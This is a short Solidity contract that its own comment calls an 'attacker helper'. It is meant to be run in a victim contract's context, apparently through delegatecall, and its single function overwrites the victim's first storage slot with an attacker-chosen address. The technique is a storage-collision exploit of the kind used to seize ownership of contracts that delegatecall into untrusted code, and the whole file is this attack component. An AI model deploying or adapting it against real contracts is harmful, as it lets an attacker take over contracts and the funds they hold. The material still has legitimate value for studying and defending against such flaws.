// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice Attacker helper: run in the victim's context, it rewrites the first slot.
contract SlotWriter {
    address public first;

    function hook(address newValue) external {
        first = newValue;
    }
}
